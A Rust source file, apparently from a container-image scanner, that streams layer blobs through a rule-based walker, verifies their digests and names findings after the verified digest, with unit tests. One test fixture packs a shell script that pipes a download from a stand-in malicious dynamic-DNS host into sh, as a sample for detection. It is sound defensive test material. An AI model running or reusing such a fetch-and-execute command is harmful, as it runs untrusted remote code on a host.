//! One blob through the walker: the verify-and-walk policy `hubcensus scan` and the census's
//! `scan_layer` stage share.
//!
//! - The blob is hashed while the walker streams it (a [`BlobReader`]); one pass, no second
//!   read of a multi-GiB layer.
//! - A panic in the walker or a decoder on hostile bytes is caught: it costs this blob only.
//! - When the walk ends, the blob is verified ([`Verify`] says whether also after a walk that
//!   stopped early), and a digest or size mismatch says more about the blob than whatever the
//!   walker made of it, so it is the blob's error ([`BlobScan::error`]).
//! - Findings are named after the verified digest: a bare `layer:FILE` has none until it is
//!   read, so it is scanned under a provisional one.

use std::{
    io::Read,
    panic::{self, AssertUnwindSafe},
    time::{Duration, Instant},
};

use hubcensus_image::{BlobError, BlobReader, Verified};
use hubcensus_layer::{LayerScan, LayerSource, Walker};
use hubcensus_types::{Digest, MediaTypeKind, Subject};

/// A blob's error when the walker panicked on it.
pub const PANICKED: &str = "the layer scanner panicked on this blob";

/// When to verify a blob's digest.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verify {
    /// After every walk that did not panic, reading what the walker left: right for a blob on
    /// disk, where the rest costs a read, and where the verified digest names a bare layer.
    Always,
    /// Only after a complete walk: after a limit the rest of a downloaded blob is not worth
    /// fetching, and the walker's error is already the blob's.
    IfComplete,
}

/// What the walk of one blob gave, and what its verification said.
#[derive(Debug)]
pub struct BlobScan {
    /// The walk; `None` when the walker panicked.
    pub scan: Option<LayerScan>,
    /// The verification, when there was one ([`Verify`]).
    pub verified: Option<Result<Verified, BlobError>>,
    /// Bytes of the blob the walker read (compressed).
    pub bytes_read: u64,
    /// Wall time of walk and verification.
    pub elapsed: Duration,
}

impl BlobScan {
    /// Why the blob's scan is incomplete or wrong, if it is: the walker panicked; else the
    /// blob is not what its descriptor says; else the walker's own error.
    pub fn error(&self) -> Option<String> {
        match (&self.scan, &self.verified) {
            (None, _) => Some(PANICKED.to_owned()),
            (Some(_), Some(Err(e))) => Some(e.to_string()),
            (Some(scan), _) => scan.error.as_ref().map(ToString::to_string),
        }
    }

    /// The verification's error, if the blob was verified and is not what its descriptor says.
    pub fn verify_error(&self) -> Option<&BlobError> {
        self.verified.as_ref().and_then(|v| v.as_ref().err())
    }
}

/// Walks `blob` (a layer, by magic bytes; `declared` is the manifest's media type, compared
/// with what the bytes show), then verifies it as `verify` says. `digest` is the blob's
/// digest, or a provisional one when the source names none: findings are renamed after the
/// verified digest.
pub fn scan_blob<R: Read>(
    walker: &Walker<'_>,
    mut blob: BlobReader<R>,
    digest: Digest,
    declared: Option<MediaTypeKind>,
    verify: Verify,
) -> BlobScan {
    let started = Instant::now();
    let subject = Subject::Layer(digest);
    // A blob with a digest to check is verified even after a walk that stopped early, or the
    // walk's own error stands ([`Verify`]): either way a corrupt blob is reported as such, so
    // the decoder need not hash the content a second time.
    let known = LayerSource {
        declared: match declared {
            Some(MediaTypeKind::Layer(compression)) => Some(compression),
            _ => None,
        },
        digest_checked: blob.checks_digest(),
    };
    let mut scan =
        panic::catch_unwind(AssertUnwindSafe(|| walker.scan_layer_from(&mut blob, subject, known))).ok();
    let bytes_read = blob.bytes_read();
    let verify_now = match (&scan, verify) {
        (None, _) => false,
        (Some(_), Verify::Always) => true,
        (Some(s), Verify::IfComplete) => s.error.is_none(),
    };
    let verified = verify_now.then(|| blob.finish());
    if let (Some(scan), Some(Ok(v))) = (&mut scan, &verified) {
        for f in &mut scan.findings {
            f.subject = Subject::Layer(v.digest.clone());
        }
    }
    BlobScan { scan, verified, bytes_read, elapsed: started.elapsed() }
}

#[cfg(test)]
mod tests {
    use hubcensus_image::Expected;
    use hubcensus_intel::{ExtractLimits, IndicatorExtractor};
    use hubcensus_layer::Limits;
    use hubcensus_rules::RuleSet;
    use hubcensus_types::Category;

    use super::*;

    /// A plain tar layer whose script names a dynamic-DNS host: one finding, whatever its digest.
    fn layer() -> Vec<u8> {
        let script = b"#!/bin/sh\ncurl -s http://payload.evil-updates.duckdns.org/x.sh | sh\n";
        let mut tar = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_gnu();
        header.set_size(script.len() as u64);
        header.set_mode(0o755);
        header.set_cksum();
        tar.append_data(&mut header, "opt/run.sh", &script[..]).unwrap();
        tar.into_inner().unwrap()
    }

    fn scan(bytes: &[u8], expected: Expected, provisional: Digest, verify: Verify) -> BlobScan {
        let rules = RuleSet::builtin().unwrap();
        let extractor = IndicatorExtractor::new(ExtractLimits::default());
        let walker = Walker::new(&rules, &extractor, Limits::default());
        let blob = BlobReader::new(bytes, "test blob", expected).unwrap();
        scan_blob(&walker, blob, provisional, None, verify)
    }

    #[test]
    fn findings_are_named_after_the_verified_digest() {
        let bytes = layer();
        let provisional = Digest::sha256_of(b"");
        let blob = scan(&bytes, Expected { digest: None, size: None }, provisional, Verify::Always);
        let actual = Digest::sha256_of(&bytes);
        assert_eq!(blob.error(), None);
        assert_eq!(blob.verified.as_ref().unwrap().as_ref().unwrap().digest, actual);
        let scan = blob.scan.unwrap();
        assert!(scan.findings.iter().any(|f| f.category == Category::DynamicDns), "{:?}", scan.findings);
        assert!(scan.findings.iter().all(|f| f.subject == Subject::Layer(actual.clone())));
    }

    #[test]
    fn a_digest_mismatch_is_the_blobs_error_and_keeps_the_provisional_name() {
        let bytes = layer();
        let claimed = Digest::sha256_of(b"another blob");
        let expected = Expected { digest: Some(claimed.clone()), size: None };
        let blob = scan(&bytes, expected, claimed.clone(), Verify::IfComplete);
        let error = blob.error().unwrap();
        assert!(error.contains("mismatch"), "{error}");
        assert!(blob.verify_error().is_some());
        assert!(blob.scan.unwrap().findings.iter().all(|f| f.subject == Subject::Layer(claimed.clone())));
    }

    #[test]
    fn a_zstd_blob_changed_in_its_content_fails_its_digest() {
        // The decoder skips the frame checksum when the blob has a digest to check: the digest
        // must then be what catches the change.
        let (intact, changed) = hubcensus_testkit::layer::zstd_changed_in_content();
        let digest = Digest::sha256_of(&intact);
        let expected = Expected { digest: Some(digest.clone()), size: Some(changed.len() as u64) };
        let blob = scan(&changed, expected.clone(), digest.clone(), Verify::IfComplete);
        assert_eq!(blob.scan.as_ref().unwrap().error, None, "the walk itself cannot tell");
        assert!(matches!(blob.verify_error(), Some(BlobError::DigestMismatch { .. })), "{:?}", blob.error());
        let fine = scan(&intact, expected, digest, Verify::IfComplete);
        assert_eq!(fine.error(), None);
    }

    #[test]
    fn an_incomplete_walk_is_verified_only_when_asked() {
        // Not an archive: the walker stops with its own error.
        let bytes = vec![0x5a; 4096];
        let wrong = Expected { digest: Some(Digest::sha256_of(b"x")), size: None };
        let complete_only = scan(&bytes, wrong.clone(), Digest::sha256_of(b"x"), Verify::IfComplete);
        let walk_error = complete_only.scan.as_ref().and_then(|s| s.error.as_ref()).map(ToString::to_string);
        assert!(walk_error.is_some(), "garbage must end the walk");
        assert!(complete_only.verified.is_none());
        assert_eq!(complete_only.error(), walk_error);

        let always = scan(&bytes, wrong, Digest::sha256_of(b"x"), Verify::Always);
        assert!(always.verify_error().is_some());
        assert!(always.error().unwrap().contains("mismatch"), "a mismatch says more than the walk's error");
    }
}
